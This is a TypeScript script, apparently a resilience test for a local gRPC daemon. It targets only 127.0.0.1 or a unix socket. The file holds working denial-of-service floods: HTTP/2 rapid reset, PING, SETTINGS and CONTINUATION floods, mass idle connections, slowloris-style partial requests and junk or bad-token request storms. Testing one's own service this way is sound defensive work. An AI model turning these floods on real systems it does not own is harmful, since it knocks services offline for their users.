/**
 * Floods a unix socket, or a port of 127.0.0.1: `node flood.script.ts KIND SOCKET SECONDS`. Prints what it did as JSON. Frames are written by hand
 * (RFC 9113): a client library would refuse to be so rude.
 */
import { connect, type Socket } from "node:net";

const [kind = "", path = "", seconds = "1"] = process.argv.slice(2);
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const [HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [1, 3, 4, 6, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
const ATTACKERS = 64;
/** Bytes that wait to be sent before more are made. */
const AHEAD = 1024 * 1024;

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
const field = (name: string, value: string): Buffer => Buffer.concat([Buffer.from([0]), text(name), text(value)]);
/** A call of Status by HPACK without indexing (RFC 7541 section 6.2.2): POST, http, :path by its name's index. */
const CALL = Buffer.concat([
  Buffer.from([0x83, 0x86, 0x04]),
  text("/awg.v1.Awg/Status"),
  field("content-type", "application/grpc"),
  field("te", "trailers"),
]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** Batches of a connection before the next one: Node ends a session after 1,000 resets (streamResetBurst of http2). */
const BATCHES_EACH: Readonly<Record<string, number>> = { reset: 2 };

/** Frames of one batch, from this stream on. */
const BATCHES: Readonly<Record<string, (stream: number) => readonly Buffer[]>> = {
  reset: (stream) =>
    streams(stream, 450).flatMap((one) => [frame(HEADERS, END_HEADERS, one, CALL), frame(RST_STREAM, 0, one, CANCEL)]),
  streams: (stream) => streams(stream, 1000).map((one) => frame(HEADERS, END_HEADERS | END_STREAM, one, CALL)),
  ping: () => Array.from({ length: 500 }, () => frame(PING, 0, 0, Buffer.alloc(8))),
  settings: () => Array.from({ length: 500 }, () => frame(SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
  continuation: (stream) => [
    frame(HEADERS, 0, stream, CALL),
    ...Array.from({ length: 200 }, (_, index) => frame(CONTINUATION, 0, stream, field(`x-${index}`, "y".repeat(100)))),
  ],
};

function streams(first: number, count: number): readonly number[] {
  return Array.from({ length: count }, (_, index) => first + 2 * index);
}

const endMs = performance.now() + Number(seconds) * 1000;
const isOver = (): boolean => performance.now() >= endMs;
let opened = 0;
let closed = 0;
let sent = 0;
const open = new Set<Socket>();

function start(onOpen: (socket: Socket) => void, again: () => void): void {
  const socket = /^[0-9]+$/.test(path) ? connect(Number(path), "127.0.0.1") : connect(path);
  opened += 1;
  open.add(socket);
  socket.on("error", () => undefined).resume();
  socket.once("connect", () => onOpen(socket));
  socket.once("close", () => {
    open.delete(socket);
    closed += 1;
    again();
  });
}

/** One connection that sends batches until it is cut, and then another. */
function attack(batch: (stream: number) => readonly Buffer[]): void {
  if (isOver()) return;
  let stream = 1;
  let left = BATCHES_EACH[kind] ?? Number.POSITIVE_INFINITY;
  const send = (socket: Socket): void => {
    while (!isOver() && !socket.destroyed && socket.writableLength < AHEAD) {
      left -= 1;
      if (left < 0) {
        socket.end();
        return;
      }
      const bytes = Buffer.concat(batch(stream));
      stream += 2000;
      sent += bytes.length;
      socket.write(bytes);
    }
  };
  start(
    (socket) => {
      socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
      socket.on("drain", () => send(socket));
      send(socket);
    },
    () => setTimeout(() => attack(batch), 5),
  );
}

/** Ten thousand connections that say nothing, 100 every 10 ms. */
function stayAway(left: number): void {
  if (left <= 0 || isOver()) return;
  for (let one = 0; one < 100; one += 1) {
    start(
      () => undefined,
      () => undefined,
    );
  }
  setTimeout(() => stayAway(left - 100), 10);
}

/** Connects, says only this, and connects again as soon as it is closed or refused. */
function knock(text: string): void {
  if (isOver()) return;
  start(
    (socket) => socket.write(text),
    () => setImmediate(() => knock(text)),
  );
}

/** Questions to the daemon, of which half are nonsense. */
const LINES = '{"id":1,"ask":"status"}\nnonsense\n';
/** A request with a token that was not given. */
const REQUEST = `GET /api/status HTTP/1.1\r\nHost: 127.0.0.1:${path}\r\nAuthorization: Bearer ${"x".repeat(43)}\r\n\r\n`;

/** Says this again and again, as fast as it is read, on a connection until it is cut, and then on another. */
function repeat(text: string): void {
  if (isOver()) return;
  const batch = Buffer.from(text.repeat(200));
  const send = (socket: Socket): void => {
    while (!isOver() && !socket.destroyed && socket.writableLength < AHEAD) {
      sent += batch.length;
      socket.write(batch);
    }
  };
  start(
    (socket) => {
      socket.on("drain", () => send(socket));
      send(socket);
    },
    () => setTimeout(() => repeat(text), 5),
  );
}

if (kind === "silent") stayAway(10_000);
else if (kind === "stranger") for (let one = 0; one < 512; one += 1) knock("");
else if (kind === "unfinished") for (let one = 0; one < 100; one += 1) knock("GET /api/status HTTP/1.1\r\n");
else if (kind === "lines" || kind === "requests") {
  for (let one = 0; one < ATTACKERS; one += 1) repeat(kind === "lines" ? LINES : REQUEST);
} else {
  const batch = BATCHES[kind];
  if (batch === undefined) throw new Error(`there is no flood ${kind}`);
  for (let one = 0; one < ATTACKERS; one += 1) attack(batch);
}
setTimeout(
  () => {
    process.stdout.write(JSON.stringify({ opened, closed, sent }));
    for (const socket of open) socket.destroy();
  },
  Number(seconds) * 1000 + 100,
);
